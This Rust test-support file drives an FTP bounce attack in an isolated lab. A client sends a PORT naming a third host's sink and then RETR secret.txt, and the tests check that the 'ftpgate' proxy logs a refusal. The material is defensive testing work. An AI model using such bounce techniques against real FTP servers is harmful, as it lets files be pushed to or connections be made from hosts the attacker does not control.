//! The attacker's tools in the lab: `scripts/ftp-client.py --bounce`, whose PORT names some
//! address other than a data socket of its own, and `scripts/tcp-sink.py`, the listener at
//! that address that records what reaches it. Shared by tests/lab.rs and
//! tests/lab_attacks.rs, each of which uses only part of it.
#![allow(dead_code)]

use std::path::{Path, PathBuf};
use std::process::{Child, Output};
use std::thread::sleep;
use std::time::{Duration, Instant};

use super::env::{script, LabEnv};
use super::ftp::terminate;
use super::net::{Lab, Role};

/// The bounce's victim: a port on the third host (198.51.100.3), in the outside network.
pub const THIRD_SINK: &str = "198.51.100.3:40500";

/// A running `tcp-sink.py`: accepts one connection and keeps what it carried.
pub struct Sink {
    child: Child,
    out: PathBuf,
}

impl Sink {
    /// Starts the sink on `listen` ("ADDRESS:PORT") in `role`'s namespace, with its files in
    /// `work`, and waits until it listens. It gives up `timeout` seconds after starting when
    /// nothing connects.
    pub fn start(
        env: &LabEnv,
        lab: &Lab,
        role: Role,
        listen: &str,
        work: &Path,
        timeout: u32,
    ) -> Sink {
        let name = listen.replace([':', '.'], "-");
        let out = work.join(format!("sink-{name}"));
        let ready = work.join(format!("sink-{name}.ready"));
        let args = [
            script("tcp-sink.py").into_os_string(),
            "--listen".into(),
            listen.into(),
            "--out".into(),
            out.clone().into_os_string(),
            "--ready".into(),
            ready.clone().into_os_string(),
            "--timeout".into(),
            timeout.to_string().into(),
        ];
        let child = lab
            .command(role, timeout + 30, &env.python, &args)
            .spawn()
            .expect("tcp-sink.py");
        let mut sink = Sink { child, out };
        let deadline = Instant::now() + Duration::from_secs(10);
        while !ready.exists() {
            if let Ok(Some(status)) = sink.child.try_wait() {
                panic!("tcp-sink.py on {listen} exited ({status}) before listening");
            }
            assert!(
                Instant::now() < deadline,
                "tcp-sink.py on {listen} not listening after 10 s"
            );
            sleep(Duration::from_millis(20));
        }
        sink
    }

    /// Waits for the sink to end: whether a connection came (and closed) before its timeout.
    pub fn wait(&mut self) -> bool {
        self.child.wait().expect("tcp-sink.py").success()
    }

    /// What the connection carried; empty when nothing connected.
    pub fn received(&self) -> Vec<u8> {
        std::fs::read(&self.out).unwrap_or_default()
    }

    /// Who connected ("198.51.100.2:35225"), once a connection has closed.
    pub fn peer(&self) -> Option<String> {
        let mut peer = self.out.clone().into_os_string();
        peer.push(".peer");
        std::fs::read_to_string(peer)
            .ok()
            .map(|p| p.trim().to_string())
    }
}

impl Drop for Sink {
    fn drop(&mut self) {
        terminate(&mut self.child);
    }
}

/// From the client namespace, `ftp-client.py` logs in to `host` anonymously, sends a PORT
/// naming `target` ("ADDRESS:PORT") and then `RETR file`, and waits for the final reply: if
/// the server obeys, `file` goes to `target`. `extra` are more options (`--timeout 4`).
pub fn bounce_to(
    env: &LabEnv,
    lab: &Lab,
    host: &str,
    target: &str,
    file: &str,
    extra: &[&str],
) -> Output {
    let client = script("ftp-client.py");
    let client = client.to_string_lossy();
    let mut args = vec![&*client, "--host", host];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--bounce", target, "get", file, "/dev/null"]);
    lab.run(Role::Client, &env.python, &args)
}

/// The classic bounce: the client asks the server 198.51.100.2 for secret.txt with a PORT
/// naming the third host's sink.
pub fn bounce(env: &LabEnv, lab: &Lab, extra: &[&str]) -> Output {
    bounce_to(env, lab, "198.51.100.2", THIRD_SINK, "secret.txt", extra)
}

/// ftpgate's stderr has a refused FTP line naming `check` (`foreign_address`,
/// `privileged_port`): the same log line says both.
pub fn check_refused(lab: &Lab, check: &str) {
    let refused = |stderr: &str| {
        stderr
            .lines()
            .any(|line| line.contains("ftp line refused") && line.contains(check))
    };
    let stderr = lab.ftpgate_stderr_once(refused);
    assert!(
        refused(&stderr),
        "ftpgate logged no refusal by {check}:\n{stderr}"
    );
}
